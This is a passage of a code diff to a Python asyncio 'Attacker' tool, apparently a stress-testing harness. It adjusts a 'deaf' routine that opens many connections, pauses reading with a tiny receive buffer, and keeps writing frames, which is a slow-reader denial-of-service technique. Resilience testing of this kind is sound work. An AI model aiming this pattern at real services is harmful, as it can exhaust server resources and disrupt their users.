@@ -52,10 +52,17 @@ class Attacker:
     def cpu_s(self) -> float:
         return time.process_time() - self._used_s
 
-    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
+    async def connect(self, *, window_bytes: int | None = None) -> tuple[
+            asyncio.StreamReader, asyncio.StreamWriter] | None:  # fmt: skip
+        line = socket.socket()
+        if window_bytes is not None:
+            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window_bytes)
+        line.setblocking(False)
         try:
-            stream = await asyncio.open_connection(self._ip, self._port, limit=2**20)
+            await asyncio.get_running_loop().sock_connect(line, (self._ip, self._port))
+            stream = await asyncio.open_connection(sock=line, limit=2**20)
         except OSError as why:
+            line.close()
             self.counts[f"not connected: {type(why).__name__}"] += 1
             return None
         self.counts["connections"] += 1
@@ -212,15 +219,15 @@ async def deaf(a: Attacker) -> None:
     async def one(n: int) -> None:
         await asyncio.sleep(n / 50)
         while True:
-            stream = await a.connect()
+            stream = await a.connect(window_bytes=4_096)
             if stream is None:
                 await asyncio.sleep(1)
                 continue
             stream[1].transport.pause_reading()  # type: ignore[attr-defined]
             with suppress(OSError, TimeoutError):
                 for _ in range(400):
-                    stream[1].write(pull * 5)
-                    a.counts["frames"] += 5
+                    stream[1].write(pull)
+                    a.counts["frames"] += 1
                     await asyncio.wait_for(stream[1].drain(), 10)
                     await a.rest()
             stream[1].transport.abort()
